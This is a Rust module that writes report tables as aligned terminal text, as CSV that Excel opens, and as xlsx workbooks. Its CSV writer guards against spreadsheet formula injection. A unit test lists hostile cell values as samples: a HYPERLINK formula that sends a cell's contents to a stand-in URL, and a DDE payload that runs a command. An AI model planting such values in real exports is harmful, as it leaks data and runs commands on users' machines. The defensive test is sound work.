//! A computed table written out: for the terminal (aligned by display width), as CSV that
//! Excel opens, and as an Excel workbook. `clerk register`, `clerk report` and the site's
//! register pages all write tables through here. A column of labels (`labels:`) is followed, in
//! CSV and workbooks, by a column of the ids behind them, for programs.

use serde_json::Value;
use unicode_width::UnicodeWidthStr;

use super::registers::Table;
use crate::text::plain;

/// A table for the terminal: columns aligned by display width (a Chinese character is two
/// columns), numbers to the right, the sub-totals and the totals row.
pub fn text(t: &Table) -> String {
    let mut rows = t.shown_rows();
    let foot: Vec<Vec<String>> = t
        .shown_subtotals()
        .into_iter()
        .chain(t.shown_totals())
        .collect();
    let footed = foot.len();
    rows.extend(foot);
    let heads: Vec<String> = t.columns.iter().map(|c| c.title.clone()).collect();
    let widths: Vec<usize> = (0..heads.len())
        .map(|i| {
            rows.iter()
                .map(|r| r[i].width())
                .chain([heads[i].width()])
                .max()
                .unwrap_or(0)
        })
        .collect();
    let right = |i: usize| t.columns[i].kind.is_numeric();
    let line = |cells: &[String]| -> String {
        cells
            .iter()
            .enumerate()
            .map(|(i, s)| {
                let pad = " ".repeat(widths[i].saturating_sub(s.width()));
                if right(i) {
                    format!("{pad}{s}")
                } else {
                    format!("{s}{pad}")
                }
            })
            .collect::<Vec<_>>()
            .join("  ")
            .trim_end()
            .to_string()
    };
    let rule: String = widths
        .iter()
        .map(|w| "─".repeat(*w))
        .collect::<Vec<_>>()
        .join("  ");
    let mut out = format!("{}\n{}\n{}\n", t.title, line(&heads), rule);
    let body = rows.len() - footed;
    for (n, r) in rows.iter().enumerate() {
        if n == body {
            out.push_str(&rule);
            out.push('\n');
        }
        out.push_str(&line(r));
        out.push('\n');
    }
    out
}

/// CSV that Excel opens with Chinese intact: UTF-8 with a byte-order mark, CRLF line ends,
/// amounts as plain numbers, totals as a count or an amount is written, and no text that a
/// spreadsheet would run as a formula ([`csv_cell`]).
pub fn csv(t: &Table) -> anyhow::Result<Vec<u8>> {
    let t = &t.with_ids();
    let mut out = "\u{feff}".as_bytes().to_vec();
    {
        let mut w = csv::WriterBuilder::new()
            .terminator(csv::Terminator::CRLF)
            .from_writer(&mut out);
        w.write_record(t.columns.iter().map(|c| c.title.as_str()))?;
        for row in &t.rows {
            w.write_record(row.iter().map(csv_cell))?;
        }
        let grand = t
            .totals
            .iter()
            .any(Option::is_some)
            .then_some((&t.total_label, &t.totals));
        for (label, totals) in t.subtotals.iter().map(|(l, x)| (l, x)).chain(grand) {
            let mut total: Vec<String> = totals
                .iter()
                .zip(&t.columns)
                .map(|(x, c)| x.map(|x| total_text(x, c.kind)).unwrap_or_default())
                .collect();
            if let Some(first) = total.iter_mut().position(|s| s.is_empty()) {
                total[first] = label.clone();
            }
            w.write_record(total)?;
        }
        w.flush()?;
    }
    Ok(out)
}

/// A cell for CSV. Text that a spreadsheet would read as a formula — starting with `=`, `+`,
/// `-`, `@`, a tab or a carriage return — is written behind a single quote, as OWASP advises
/// against formula injection; numbers stay numbers.
fn csv_cell(v: &Value) -> String {
    let text = plain(v);
    if !v.is_number() && text.starts_with(['=', '+', '-', '@', '\t', '\r']) {
        format!("'{text}")
    } else {
        text
    }
}

/// A total as its column writes numbers: counts whole, an amount or a number with its cents
/// only when it has some.
fn total_text(x: f64, kind: crate::model::registers::Kind) -> String {
    use crate::model::registers::Kind;
    if matches!(kind, Kind::Count | Kind::Row) || x.fract() == 0.0 {
        format!("{}", x.round() as i64)
    } else {
        format!("{x:.2}")
    }
}

#[cfg(feature = "xlsx")]
pub use workbook::xlsx;

#[cfg(feature = "xlsx")]
mod workbook {

    use anyhow::Context;
    use serde_json::Value;
    use unicode_width::UnicodeWidthStr;

    use super::Table;
    use crate::model::registers::Kind;
    use crate::text::{number, plain};

    /// An Excel workbook with typed cells: dates as dates, amounts and counts as numbers, bold
    /// sub-total rows and the totals row.
    pub fn xlsx(t: &Table) -> anyhow::Result<Vec<u8>> {
        let t = &t.with_ids();
        use rust_xlsxwriter::{ExcelDateTime, Format as Style, Workbook};
        let mut book = Workbook::new();
        let sheet = book.add_worksheet();
        let name: String = t
            .name
            .chars()
            .filter(|c| !"[]:*?/\\".contains(*c))
            .take(31)
            .collect();
        sheet.set_name(&name)?;
        let bold = Style::new().set_bold();
        let date = Style::new().set_num_format("yyyy-mm-dd");
        let amount = Style::new().set_num_format("#,##0.00");
        let count = Style::new().set_num_format("0");
        for (c, head) in t.columns.iter().enumerate() {
            sheet.write_string_with_format(0, c as u16, &head.title, &bold)?;
            sheet.set_column_width(c as u16, (head.title.width() as f64 + 4.0).max(12.0))?;
        }
        for (r, row) in t.rows.iter().enumerate() {
            let r = r as u32 + 1;
            for (c, v) in row.iter().enumerate() {
                let c = c as u16;
                match (t.columns[c as usize].kind, v) {
                    (_, Value::Null) => {}
                    (Kind::Date, Value::String(s)) => match ExcelDateTime::parse_from_str(s) {
                        Ok(d) => {
                            sheet.write_datetime_with_format(r, c, &d, &date)?;
                        }
                        Err(_) => {
                            sheet.write_string(r, c, s)?;
                        }
                    },
                    (Kind::Amount, v) => {
                        sheet.write_number_with_format(r, c, number(v), &amount)?;
                    }
                    (Kind::Count | Kind::Row, v) => {
                        sheet.write_number_with_format(r, c, number(v), &count)?;
                    }
                    (Kind::Number, Value::Number(n)) => {
                        sheet.write_number(r, c, n.as_f64().unwrap_or(0.0))?;
                    }
                    (_, v) => {
                        sheet.write_string(r, c, plain(v))?;
                    }
                }
            }
        }
        let grand = t
            .totals
            .iter()
            .any(Option::is_some)
            .then_some((&t.total_label, &t.totals));
        let sums = t.subtotals.iter().map(|(l, x)| (l, x)).chain(grand);
        for (i, (label, totals)) in sums.enumerate() {
            let r = (t.rows.len() + i) as u32 + 1;
            let mut labelled = false;
            for (c, total) in totals.iter().enumerate() {
                let c = c as u16;
                match total {
                    Some(x) => {
                        let style = if t.columns[c as usize].kind == Kind::Amount {
                            amount.clone().set_bold()
                        } else {
                            count.clone().set_bold()
                        };
                        sheet.write_number_with_format(r, c, *x, &style)?;
                    }
                    None if !labelled => {
                        sheet.write_string_with_format(r, c, label, &bold)?;
                        labelled = true;
                    }
                    None => {}
                }
            }
        }
        book.save_to_buffer().context("cannot write the workbook")
    }
}

/// Without the `xlsx` feature there is no workbook writer.
#[cfg(not(feature = "xlsx"))]
pub fn xlsx(_: &Table) -> anyhow::Result<Vec<u8>> {
    anyhow::bail!(
        "this clerk was built without Excel workbooks (cargo feature `xlsx`); use --format csv"
    )
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::model::registers::Kind;
    use serde_json::json;

    #[test]
    fn text_that_a_spreadsheet_would_run_is_quoted() {
        for formula in [
            "=HYPERLINK(\"http://x\"&A1,\"x\")",
            "=cmd|' /C calc'!A0",
            "+1",
            "-2",
            "@SUM(1)",
            "\tx",
            "\rx",
        ] {
            assert_eq!(csv_cell(&json!(formula)), format!("'{formula}"));
        }
        assert_eq!(
            csv_cell(&json!(-30000)),
            "-30000",
            "a number stays a number"
        );
        assert_eq!(csv_cell(&json!("陳淑芬")), "陳淑芬");
        assert_eq!(csv_cell(&json!(["=a", "b"])), "'=a, b");
    }

    #[test]
    fn totals_are_written_as_their_column_writes_numbers() {
        assert_eq!(total_text(9.0, Kind::Count), "9");
        assert_eq!(total_text(0.0, Kind::Amount), "0");
        assert_eq!(total_text(150000.0, Kind::Amount), "150000");
        assert_eq!(total_text(8.5, Kind::Number), "8.50");
        assert_eq!(total_text(1234.567, Kind::Amount), "1234.57");
    }
}
